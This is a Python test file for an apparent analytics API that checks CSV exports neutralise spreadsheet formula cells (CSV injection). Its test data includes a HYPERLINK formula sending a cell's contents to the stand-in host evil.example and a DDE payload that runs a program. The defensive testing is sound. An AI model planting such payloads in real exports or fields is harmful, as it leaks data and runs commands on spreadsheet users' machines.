"""CSV exports neutralise cells a spreadsheet would run as formulas (OWASP CSV injection): an id such
as ``=HYPERLINK(...)`` arrives as text, with a leading ``'``; numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from ccpulse.readmodel.views import csv_cell
from tests.api.conftest import T0, interval

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
        "\tdata", "\rdata"]


@pytest.mark.parametrize("value", EVIL)
def test_formula_starts_are_neutralised(value: str) -> None:
    assert csv_cell(value) == "'" + value


def test_plain_text_and_numbers_are_unchanged() -> None:
    assert [csv_cell(v) for v in ("sales", "a-1", "q=1", 0, -0.05, 12.5, None)] == ["sales", "a-1", "q=1", 0, -0.05, 12.5, ""]


@pytest.mark.parametrize("queue_id", ['=HYPERLINK("evil.example","click")', "+1+cmd", "-2+3", "@SUM(1+1)"])
def test_an_exported_queue_id_is_text_in_the_csv(client: TestClient, store, frozen, queue_id: str) -> None:
    interval(store, "queue", queue_id, T0, 1000, offered=2, offered_voice=2, answered=1, abandoned=1)
    response = client.get(f"/api/v1/queues/{quote(queue_id, safe='')}/intervals", params={"format": "csv"})
    assert response.status_code == 200, response.text
    header, *rows = list(csv.reader(io.StringIO(response.text)))
    assert rows and all(row[0] == "'" + queue_id for row in rows)
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
    # Figures are still numbers (a negative one would be written as -1, not neutralised).
    assert rows[0][header.index("offered")] == "2"
